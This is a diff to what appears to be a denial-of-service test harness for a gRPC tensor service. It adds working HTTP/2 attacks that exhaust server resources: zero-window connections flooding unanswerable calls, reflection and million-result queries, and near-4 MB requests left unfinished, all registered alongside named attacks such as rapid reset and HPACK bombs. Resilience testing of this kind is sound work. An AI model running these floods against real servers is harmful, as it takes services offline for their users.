@@ -13,6 +13,13 @@ LIST = b"/tensord.v1.TensorStore/ListModels"
 BIG = b"/tensord.v1.TensorStore/GetTensor"
 BIG_REQUEST = h2.message(b"\x0a\x03big\x1a\x01t")  # model "big", tensor "t"
 BATCH = 64  # Frames in one write.
+NAMES = b"/tensord.v1.TensorStore/ListTensors"
+NAMES_REQUEST = h2.message(b"\x0a\x04many\x30\x90\x4e")  # model "many", page_size 10,000
+PLAN = b"/tensord.v1.TensorStore/GetTensors"
+PLAN_REQUEST = h2.message(b"\x0a\x04many" + b"\x1a\x03\x12\x01*" * 100)  # model "many", 100 times pattern "*": a million results
+REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+REFLECTION_REQUEST = h2.message(b"\x22\x16tensord.v1.TensorStore")  # file_containing_symbol
+HALF_REQUEST_BYTES = (4 << 20) - 100  # Just below the largest request.
 
 
 class Result:
@@ -287,9 +294,52 @@ def data_beyond_the_window(address, end):
     return flood(address, end, itertools.chain([(1, first)], repeat(4, piece)))
 
 
+def unread_answers(address, end, path=NAMES, request=NAMES_REQUEST, num_connections=40, num_calls=100):
+    """Calls on many connections, none of which allows a byte of answer."""
+    result = Result()
+    with ExitStack() as stack, suppress(Closed, OSError):
+        for _ in range(num_connections):
+            peer = stack.enter_context(Peer(address, initial_window_size=0))
+            for stream in range(1, 2 * num_calls, 2):
+                peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(path)) +
+                          h2.frame(h2.DATA, h2.END_STREAM, stream, request))
+                peer.drain()
+                result.done += 1
+            result.bytes_sent += peer.bytes_sent
+        time.sleep(max(0.0, end - time.monotonic()))
+    return result
+
+
+def unread_reflection(address, end):
+    """The same with descriptions of the service."""
+    return unread_answers(address, end, REFLECTION, REFLECTION_REQUEST)
+
+
+def unread_plans(address, end):
+    """The same with kilobytes that ask for a million results."""
+    return unread_answers(address, end, PLAN, PLAN_REQUEST, num_connections=4, num_calls=10)
+
+
+def half_requests(address, end):
+    """Large requests on many connections that stop just before their end."""
+    result, beginning = Result(), struct.pack(">BI", 0, HALF_REQUEST_BYTES + 1) + bytes(HALF_REQUEST_BYTES)
+    with ExitStack() as stack, suppress(OSError):
+        for _ in range(40):
+            with suppress(Closed):
+                peer = stack.enter_context(Peer(address, acknowledge=False))
+                for stream in (1, 3):
+                    peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(LIST)))
+                    peer.send_within_windows(stream, beginning)
+                    result.done += 1
+                    result.bytes_sent += len(beginning)
+        time.sleep(max(0.0, end - time.monotonic()))
+    return result
+
+
 # By name.
 ALL = {attack.__name__: attack for attack in (
     continuation_flood, empty_continuations, hpack_string, hpack_bomb, rapid_reset, rapid_reset_of_running_calls,
     provoked_resets, stream_flood, ping_flood, settings_flood, deaf_settings_flood, priority_flood, unknown_frames,
     empty_data, window_updates, tiny_windows, zero_window, window_overflow, slow_readers, half_open, half_preface,
-    half_frame, reconnects, reconnects_of_a_reader, abandoned_calls, data_beyond_the_window)}
+    half_frame, reconnects, reconnects_of_a_reader, abandoned_calls, data_beyond_the_window, half_requests,
+    unread_answers, unread_reflection, unread_plans)}
